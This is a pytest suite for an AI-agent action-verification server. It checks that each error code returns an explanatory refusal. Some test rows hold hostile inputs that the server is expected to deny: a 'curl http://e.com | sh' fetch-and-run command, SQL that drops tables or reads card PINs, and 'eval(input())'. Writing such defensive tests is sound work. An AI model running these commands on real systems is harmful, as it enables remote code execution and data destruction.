"""Ruling 4.11 for every error code: the failed check, whether to retry, and what would pass."""

import re
import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from qwed.model import ErrorCode as E
from tests.conftest import AgentConversation
from tests.spec.conftest import Keyholders, SpecServer, keyholders_of, start_spec_server
from tests.spec.requests import DELETE, EMAIL, FALSE, SUM, Json, another, refusal_of, settle
from tests.spec.scenario import SECRET, STATE, Scene, raw, require_discretion
from tests.spec.sections import spec
from tests.support.agent_names import unique_name
from tests.support.server import Server
from tests.support.stored_rows import StoredRows


def _again(scene: Scene, key: str) -> httpx.Response:
    first, second = ({"action": another(n), "context": {"conversation_id": "c", "step_number": 1}} for n in (1, 2))
    assert scene.sent(first, **{"Idempotency-Key": key}).status_code == 200
    return scene.sent(second, **{"Idempotency-Key": key})


def _of(scene: Scene, **fields: Any) -> Scene:
    return scene._replace(ask=scene.keyholders.create_agent(**fields))


def _stale(scene: Scene) -> httpx.Response:
    with scene.spec_server.client("owner") as owner:
        headers = {"If-Match": '"another version"'}
        return owner.patch(f"/agents/{scene.ask.agent_id}", json={"description": "late"}, headers=headers)


def _policy_without_rules(scene: Scene) -> httpx.Response:
    with scene.spec_server.client("owner") as owner:
        return owner.put("/policies/empty", json={"text": "policy: empty"}, headers={"If-Match": "*"})


def _name_in_use(scene: Scene) -> httpx.Response:
    other = scene.keyholders.create_agent()
    return scene.plain("PATCH", "{agent}", {"name": other.agent["name"]})


def _settled_twice(scene: Scene) -> httpx.Response:
    approval_id = scene.verify(EMAIL).json()["approval_id"]
    assert settle(scene.keyholders.approver, approval_id).status_code == 200
    return settle(scene.keyholders.approver, approval_id)


def _own_request(scene: Scene) -> httpx.Response:
    ask = AgentConversation(scene.keyholders.approver, scene.ask.agent)
    return settle(scene.keyholders.approver, ask(EMAIL, 1)["approval_id"])


def _suspended(scene: Scene, path: str) -> httpx.Response:
    place = f"/agents/{scene.ask.agent_id}"
    scene.keyholders.owner.post(f"{place}/suspend", json={"reason": "odd"})
    body = {"to_level": 2} if path == "trust" else {"action": SUM}
    return scene.keyholders.member.post(f"{place}/{path}", json=body)


Reach = Callable[[Scene], httpx.Response]

DECIDING: list[tuple[E, str, Reach]] = [
    (E.AGENT_NOT_REGISTERED, "unknown", lambda s: s.plain("POST", "/agents/agent_0/verify", {"action": SUM})),
    (
        E.AGENT_NOT_REGISTERED,
        "foreign",
        lambda s: s.plain("POST", f"/agents/{s.foreign_agent['agent_id']}/verify", {"action": SUM}),
    ),
    (E.INVALID_AGENT_TOKEN, "none", lambda s: s.plain("POST", "{agent}/verify", {"action": SUM}, None)),
    (
        E.INVALID_AGENT_TOKEN,
        "anothers",
        lambda s: s.sent({"action": SUM, "agent_token": s.foreign_agent["agent_token"]}),
    ),
    (
        E.UNKNOWN_CREDENTIAL,
        "revoked",
        lambda s: s.plain("POST", "{agent}/verify", {"action": SUM}, "revoked"),
    ),
    (E.AGENT_SUSPENDED, "suspended", lambda s: _suspended(s, "verify")),
    (E.TOOL_NOT_ALLOWED, "unknown", lambda s: s.verify({"type": "tool_call", "tool": "my_custom_tool"})),
    (E.TOOL_NOT_ALLOWED, "blocked", lambda s: _of(s, permissions={"blocked_tools": ["calculate"]}).verify()),
    (E.TOOL_NOT_ALLOWED, "not listed", lambda s: _of(s, permissions={"allowed_tools": ["x"]}).verify(EMAIL)),
    (E.TOOL_NOT_ALLOWED, "engine", lambda s: _of(s, permissions={"allowed_engines": ["sql"]}).verify()),
    (E.VERIFICATION_FAILED, "false", lambda s: s.verify(FALSE)),
    (E.VERIFICATION_FAILED, "undefined", lambda s: s.verify({"type": "calculate", "query": "1/0"})),
    (E.VERIFICATION_FAILED, "code", lambda s: s.verify({"type": "execute_code", "code": "eval(input())"})),
    (E.VERIFICATION_FAILED, "sql", lambda s: s.verify({"type": "execute_sql", "query": "SELECT 1; DROP TABLE t"})),
    (E.VERIFICATION_FAILED, "column", lambda s: s.verify({"type": "execute_sql", "query": "SELECT pin FROM cards"})),
    (E.VERIFICATION_FAILED, "logic", lambda s: s.verify({"type": "verify_logic", "query": "(AND x (NOT x))"})),
    (E.VERIFICATION_FAILED, "shell", lambda s: s.verify({"type": "shell_command", "query": "curl http://e.com | sh"})),
    (E.VERIFICATION_FAILED, "secret", lambda s: s.verify({**EMAIL, "parameters": {"body": SECRET}})),
    (E.VERIFICATION_FAILED, "no engine", lambda s: s.verify({"type": "verify_image", "query": "a cat"})),
    (E.UNKNOWN_ACTION_TYPE, "unknown", lambda s: s.verify({"type": "unheard_of"})),
    (E.MISSING_CONTEXT, "none", lambda s: s.sent({"action": SUM})),
    (E.INVALID_STEP, "zero", lambda s: s.verify(step=0)),
    (E.STATE_INCOMPLETE, "half", lambda s: s.verify(state_source="custom")),
    (E.STATE_HASH_INVALID, "short", lambda s: s.verify(pre_action_state_hash="x", state_source="custom")),
    (E.STATE_SOURCE_UNKNOWN, "unknown", lambda s: s.verify(pre_action_state_hash=STATE, state_source="x")),
    (
        E.NOT_DETERMINISTIC,
        "NaN",
        lambda s: raw(
            s,
            "{agent}/verify",
            b'{"action": {"type": "calculate", "query": "1", "parameters": {"n": NaN}},'
            b' "context": {"conversation_id": "c", "step_number": 1}}',
        ),
    ),
    (E.STEP_LIMIT, "over", lambda s: s.verify(step=51)),
    (E.REPLAY, "twice", lambda s: s.last(s.verify(), s.verify())),
    (E.REPETITION, "thrice", lambda s: s.last(*(s.verify(step=step) for step in (1, 2, 3)))),
    (
        E.NO_PROGRESS,
        "in a circle",
        lambda s: s.last(
            *(
                s.verify(action, step, pre_action_state_hash=STATE, state_source="custom")
                for step, action in enumerate((SUM, another(1), SUM, another(2), SUM), start=1)
            )
        ),
    ),
    (E.COST_EXCEEDED, "day", lambda s: _of(s, budget={"max_daily_cost_usd": 0}).verify()),
    (E.RATE_EXCEEDED, "hour", lambda s: _of(s, budget={"max_requests_per_hour": 0}).verify()),
    (
        E.TOKENS_EXCEEDED,
        "day",
        lambda s: _of(s, budget={"max_tokens_per_day": 0}).verify({**SUM, "cost": {"tokens": 1}}),
    ),
    (E.INSUFFICIENT_TRUST, "critical", lambda s: s.verify(DELETE)),
    (E.INSUFFICIENT_TRUST, "sql", lambda s: s.verify({"type": "execute_sql", "query": "DROP TABLE t"})),
    (E.NEEDS_APPROVAL, "medium", lambda s: s.verify(EMAIL)),
    (E.MALFORMED, "no JSON", lambda s: raw(s, "{agent}/verify", b"{")),
    (E.MALFORMED, "no object", lambda s: s.sent([])),
    (E.MALFORMED, "unknown field", lambda s: s.sent({"action": SUM, "hurry": True})),
    (E.MALFORMED, "deep", lambda s: raw(s, "{agent}/verify", b"[" * 100 + b"]" * 100)),
    (E.MALFORMED, "twice", lambda s: raw(s, "{agent}/verify", b'{"a": 1, "a": 2}')),
    (E.MALFORMED, "other agent", lambda s: s.sent({"action": SUM, "agent_id": s.foreign_agent["agent_id"]})),
    (E.TOO_LARGE, "bytes", lambda s: raw(s, "{agent}/verify", b" " * (1 << 21))),
    (E.MISSING_FIELD, "tool", lambda s: s.verify({"type": "tool_call"})),
    (
        E.BAD_OPTION,
        "threshold",
        lambda s: s.sent(
            {
                "action": SUM,
                "context": {"conversation_id": "c", "step_number": 1},
                "options": {"risk_threshold": "huge"},
            }
        ),
    ),
    (E.KEY_REUSED, "other body", lambda s: _again(s, "once")),
]

PLAIN: list[tuple[E, str, Reach]] = [
    (E.AGENT_NOT_REGISTERED, "unknown", lambda s: s.plain("GET", "/agents/agent_0")),
    (E.AGENT_NOT_REGISTERED, "foreign", lambda s: s.plain("GET", f"/agents/{s.foreign_agent['agent_id']}/budget")),
    (
        E.AGENT_NOT_REGISTERED,
        "foreign suspend",
        lambda s: s.plain("POST", f"/agents/{s.foreign_agent['agent_id']}/suspend", {"reason": "envy"}),
    ),
    (
        E.INVALID_AGENT_TOKEN,
        "anothers",
        lambda s: s.keyholders.member.get(
            f"/agents/{s.ask.agent_id}", headers={"Authorization": f"Bearer {s.foreign_agent['agent_token']}"}
        ),
    ),
    (E.AGENT_SUSPENDED, "trust", lambda s: _suspended(s, "trust")),
    (
        E.NOT_DETERMINISTIC,
        "result",
        lambda s: raw(
            s,
            f"{{agent}}/actions/{s.verify().json()['action_id']}/execution",
            b'{"success": true, "result": Infinity}',
        ),
    ),
    (E.MALFORMED, "no JSON", lambda s: raw(s, "/agents/register", b"{")),
    (E.MALFORMED, "unknown field", lambda s: s.plain("POST", "/keys", {"name": "x", "role": "member", "admin": True})),
    (E.MALFORMED, "trust field", lambda s: s.plain("POST", "{agent}/trust", {"to_level": 2, "hurry": 1})),
    (E.TOO_LARGE, "bytes", lambda s: raw(s, "/agents/register", b" " * (1 << 21))),
    (
        E.UNKNOWN_TYPE,
        "item",
        lambda s: s.plain("POST", "/verify/batch", {"items": [{"query": "1", "type": "astrology"}]}),
    ),
    (E.MISSING_FIELD, "reason", lambda s: s.plain("POST", "{agent}/suspend", {})),
    (E.MISSING_FIELD, "success", lambda s: s.plain("POST", "{agent}/actions/act_0/execution", {})),
    (E.BAD_OPTION, "level", lambda s: s.plain("POST", "{agent}/trust", {"to_level": 3})),
    (E.BAD_OPTION, "limit", lambda s: s.plain("GET", "{agent}/activity?limit=0")),
    (E.BAD_OPTION, "state", lambda s: s.plain("GET", "/approvals?state=open")),
    (E.BAD_OPTION, "private URL", lambda s: s.plain("PUT", "/webhook", {"url": "https://127.0.0.1/x"})),
    (E.NOT_FOUND, "route", lambda s: s.plain("GET", "/nowhere")),
    (E.NOT_FOUND, "action", lambda s: s.plain("GET", "{agent}/actions/act_0")),
    (E.NOT_FOUND, "approval", lambda s: s.plain("POST", "/approvals/apr_0/approve", {"reason": "x"})),
    (E.NOT_FOUND, "key", lambda s: s.plain("DELETE", "/keys/key_0")),
    (E.METHOD_NOT_ALLOWED, "method", lambda s: s.plain("PUT", "/agents/register")),
    (E.CONFLICT, "settled", _settled_twice),
    (
        E.CONFLICT,
        "name in use",
        lambda s: s.plain("PATCH", "{agent}", {"name": s.keyholders.create_agent().agent["name"]}),
    ),
    (E.CONFLICT, "spelling", lambda s: s.plain("PUT", "/tools/Send_Money", {"risk_level": "low"})),
    (E.PRECONDITION_FAILED, "stale", _stale),
    (E.POLICY_REFUSED, "no rules", _policy_without_rules),
    (E.CONFLICT, "evidence", lambda s: s.plain("POST", "{agent}/trust", {"to_level": 2})),
    (
        E.CONFLICT,
        "not permitted",
        lambda s: s.plain(
            "POST", f"{{agent}}/actions/{s.verify(FALSE).json()['action_id']}/execution", {"success": True}
        ),
    ),
    (E.NO_CREDENTIAL, "none", lambda s: s.plain("GET", "/agents", key=None)),
    (E.UNKNOWN_CREDENTIAL, "revoked", lambda s: s.plain("GET", "/agents", key="revoked")),
    (E.UNKNOWN_CREDENTIAL, "unknown", lambda s: s.plain("GET", "/keys", key="qwed_live_" + "f" * 52)),
    (E.ROLE_NOT_SUFFICIENT, "member", lambda s: s.plain("GET", "/keys", key="member")),
    (
        E.ROLE_NOT_SUFFICIENT,
        "trusted",
        lambda s: s.plain(
            "POST", "/agents/register", {"name": unique_name(), "principal_id": "u", "trust_level": 3}, "member"
        ),
    ),
    (
        E.ROLE_NOT_SUFFICIENT,
        "organisation",
        lambda s: s.plain("POST", "/organisations", {"name": "x"}, "foreign"),
    ),
    (E.OWN_REQUEST, "own", _own_request),
]

ON_A_SERVER_OF_ITS_OWN: dict[E, dict[str, str]] = {
    E.LEASE_EXPIRED: {"QWED_STEP_LEASE_SECONDS": "0"},
    E.APPROVALS_FULL: {"QWED_MAX_OPEN_APPROVALS": "0"},
}
"""Codes that need special settings."""

UNDER_PRESSURE: dict[E, dict[str, str]] = {
    E.RATE_LIMITED: {"QWED_RATE_LIMIT_PER_KEY": "1"},
    E.OVERLOADED: {"QWED_MAX_IN_FLIGHT": "1"},
    E.DEPENDENCY_DOWN: {},
}
"""Codes that refuse every caller on every route."""

NOT_BY_ONE_REQUEST = {
    E.AGENT_RETIRED: "the agent must be retired first: test_4_28_agents",
    **dict.fromkeys((E.POLICY_DENIED, E.POLICY_FAILED), "a policy must be in force first: tests/spec/test_policies"),
    E.POLICIES_DAMAGED: "the stored policies must be damaged behind the server's back: tests/faults/test_policies",
    E.AMBIGUOUS_NAME: "only an earlier database has two agents of one name: tests/unit/store/test_agent_names",
    E.INTERNAL: "a surprise in our own code: tests/faults",
    E.SERVER_ERROR: "a surprise in our own code: tests/faults",
    E.ENGINE_UNAVAILABLE: "every worker must be busy: test_busy_engines",
    E.MESSAGE_BLOCKED: "a verdict on a message says it, and refuses no request: tests/a2a/test_server_lists",
    E.TAMPERING_FOUND: "the log must have lost a row behind the server's back",
    E.ENVIRONMENT_COMPROMISED: "the server does not start: test_9_7_environment_integrity",
    **dict.fromkeys(
        (E.ENGINE_FAILED, E.ENGINE_TIMEOUT, E.ENGINE_UNSUPPORTED, E.BLOCKED_CONTENT),
        "what an engine finds is a status (ERROR, INCONCLUSIVE, BLOCKED, UNKNOWN), and refuses nothing",
    ),
    **{
        code: "what POST /attestation/verify finds, which refuses nothing: test_attestation"
        for code in E
        if code.code.startswith("QWED-ATT-")
    },
}

# These differ from the row of their code: a per-request limit never passes later; evidence may grow.
FINAL = {(E.CONFLICT, "evidence"): False}
PRINTED = re.compile(r"Unknown tool '\w+' requires explicit allowlisting \(risk_score=\d\.\d\)")
"""Message printed in the guide, Tool approval."""


@pytest.fixture
def scene(spec_server: SpecServer, keyholders: Keyholders, foreign_agent: Json) -> Scene:
    return Scene(spec_server, keyholders, keyholders.create_agent(), foreign_agent)


def _require_lesson(response: httpx.Response, code: E, *, final: bool) -> Json:
    body: Json = response.json()
    error: Json = body["error"]
    assert (response.status_code, error["code"]) == (code.http, code.code)
    assert error["final"] is final
    assert re.fullmatch(r"[a-z][a-z0-9_]*", error["check"])
    assert isinstance(error["details"], dict)
    _require_sentence(error["message"])
    _require_sentence(error["suggestion"])
    return body


def _require_sentence(text: str) -> None:
    assert text.isprintable()
    assert 0 < len(text) < 400
    assert not text.endswith((".", " ", ":"))
    assert not text[0].isupper() or text.startswith(("JSON", "SQL", "UTF-8")) or PRINTED.fullmatch(text)


@spec("A")
def test_every_code_is_reached_or_has_a_reason() -> None:
    reached = {code for code, _name, _reach in (*DECIDING, *PLAIN)} | {*ON_A_SERVER_OF_ITS_OWN, *UNDER_PRESSURE}
    assert reached | set(NOT_BY_ONE_REQUEST) == set(E)
    assert reached & set(NOT_BY_ONE_REQUEST) == set()


@spec("A", "4.3")
@pytest.mark.parametrize(("code", "name", "reach"), DECIDING, ids=[f"{row[0].name} {row[1]}" for row in DECIDING])
def test_a_refused_decision_teaches(scene: Scene, code: E, name: str, reach: Reach) -> None:
    response = reach(scene)
    body = _require_lesson(response, code, final=FINAL.get((code, name), code.final))
    expected = {E.NEEDS_APPROVAL: "PENDING"} | dict.fromkeys(
        (E.COST_EXCEEDED, E.RATE_EXCEEDED, E.TOKENS_EXCEEDED), "BUDGET_EXCEEDED"
    )
    assert body["decision"] == expected.get(code, "DENIED")
    assert "attestation" not in body
    require_discretion(response, scene)


@spec("A")
@pytest.mark.parametrize(("code", "name", "reach"), PLAIN, ids=[f"{row[0].name} {row[1]}" for row in PLAIN])
def test_a_refusal_beside_decisions_teaches(scene: Scene, code: E, name: str, reach: Reach) -> None:
    response = reach(scene)
    body = _require_lesson(response, code, final=FINAL.get((code, name), code.final))
    assert set(body) == {"error"}
    require_discretion(response, scene)


@spec("A")
@pytest.mark.parametrize("code", ON_A_SERVER_OF_ITS_OWN, ids=lambda code: code.name)
def test_a_refusal_by_the_settings_teaches(tmp_path: Path, code: E) -> None:
    with ExitStack() as stack:
        spec_server = stack.enter_context(start_spec_server(tmp_path / "data", **ON_A_SERVER_OF_ITS_OWN[code]))
        ask = stack.enter_context(keyholders_of(spec_server)).create_agent()
        response = ask.send({"action": EMAIL, "context": {"conversation_id": "c", "step_number": 1}})
        error = _require_lesson(response, code, final=code.final)["error"]
        assert error["check"] == code.check


def _lose_the_store(server: Server, held: ExitStack) -> None:
    held.enter_context(StoredRows(server.data_dir).unreachable())


def _take_the_only_place(server: Server, held: ExitStack) -> None:
    """Send a request whose body never arrives."""
    place = urlsplit(server.base_url)
    line = held.enter_context(socket.create_connection((place.hostname, place.port), timeout=30))
    line.sendall(
        f"POST /agents/register HTTP/1.1\r\nHost: {place.netloc}\r\nX-API-Key: {server.owner_key}\r\n"
        "Expect: 100-continue\r\nContent-Length: 2\r\n\r\n".encode()
    )
    assert line.recv(4096).startswith(b"HTTP/1.1 100")


def _fill_the_window(_server: Server, _held: ExitStack) -> None:
    """Do nothing: one request fills the window."""


def _pressed(code: E, press: Callable[[], None], send: Callable[[], httpx.Response]) -> httpx.Response:
    """Return the refusal; retry if a busy machine released the load too early."""
    response = send()
    for _ in range(5):
        if response.status_code == code.http:
            break
        press()
        response = send()
    return response


_PRESS: dict[E, Callable[[Server, ExitStack], None]] = {
    E.RATE_LIMITED: _fill_the_window,
    E.OVERLOADED: _take_the_only_place,
    E.DEPENDENCY_DOWN: _lose_the_store,
}


@spec("A")
@pytest.mark.parametrize("code", UNDER_PRESSURE, ids=lambda code: code.name)
def test_a_refusal_under_pressure_teaches_on_every_route_and_says_when_to_come_back(tmp_path: Path, code: E) -> None:
    server = Server(tmp_path / "data", **UNDER_PRESSURE[code])
    try:
        with (
            ExitStack() as held,
            httpx.Client(base_url=server.base_url, headers={"X-API-Key": server.owner_key}, timeout=30) as owner,
        ):

            def register() -> httpx.Response:
                return owner.post("/agents/register", json={"name": unique_name(), "principal_id": "u"})

            agent_id = register().json().get("agent_id", "agent_0")
            request = {"action": SUM, "context": {"conversation_id": "c", "step_number": 1}}
            plain, deciding = (
                _pressed(code, lambda: _PRESS[code](server, held), send)
                for send in (register, partial(owner.post, f"/agents/{agent_id}/verify", json=request))
            )
    finally:
        server.kill()
    assert set(_require_lesson(plain, code, final=False)) == {"error"}
    assert _require_lesson(deciding, code, final=False)["decision"] == "DENIED"
    for response in (plain, deciding):
        assert int(response.headers["retry-after"]) == response.json()["error"]["retry_after"] >= 1


@spec("A")
def test_a_missing_thing_and_anothers_are_told_apart_by_nobody(scene: Scene) -> None:
    for path in ("{}", "{}/budget", "{}/activity", "{}/actions/act_0", "{}/did.json"):
        missing, foreign = (
            scene.plain("GET", path.format(f"/agents/{agent_id}")).json()
            for agent_id in ("agent_0", scene.foreign_agent["agent_id"])
        )
        assert missing == foreign


@spec("A")
def test_a_denial_by_trust_names_the_level_it_takes(scene: Scene) -> None:
    error = scene.verify(DELETE).json()["error"]
    effects = [{"effect": "DELETE", "target": DELETE["target"]}]
    assert error["details"] == {"risk_level": "critical", "trust_level": 1, "required": 3, "effects": effects}
    assert "trust level" in error["suggestion"]


@spec("A")
def test_a_write_that_trust_denies_is_answered_with_the_read_that_would_pass(scene: Scene) -> None:
    error = scene.verify({"type": "execute_sql", "query": "DELETE FROM orders WHERE id = 1"}).json()["error"]
    assert "SELECT" in error["suggestion"]


@spec("A")
def test_a_denied_action_passes_once_the_suggestion_is_followed(scene: Scene) -> None:
    assert "different action" in scene.last(*(scene.verify(step=n) for n in (1, 2, 3))).json()["error"]["suggestion"]
    assert scene.verify(another(1), 3).json()["decision"] == "APPROVED"
    assert "greater" in scene.verify(SUM, 3).json()["error"]["suggestion"]
    assert scene.verify(SUM, 4).json()["decision"] == "APPROVED"
    assert "new conversation_id" in scene.verify(SUM, 51).json()["error"]["suggestion"]
    assert scene.verify(SUM, 1, conversation_id="another").json()["decision"] == "APPROVED"


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SpecServer]:
    with start_spec_server(Path(tmp_path_factory.mktemp("full")) / "data") as found:
        yield found


@spec("A")
def test_the_last_owner_key_is_kept_and_the_refusal_says_what_to_do(full: SpecServer) -> None:
    with full.client("owner") as owner:
        mine = next(
            each for each in owner.get("/keys").json()["keys"] if each["role"] == "owner" and not each["revoked_at"]
        )
        response = owner.delete(f"/keys/{mine['id']}")
        assert refusal_of(response) == (409, "QWED-REQ-009")
        assert "add another one first" in response.json()["error"]["message"]
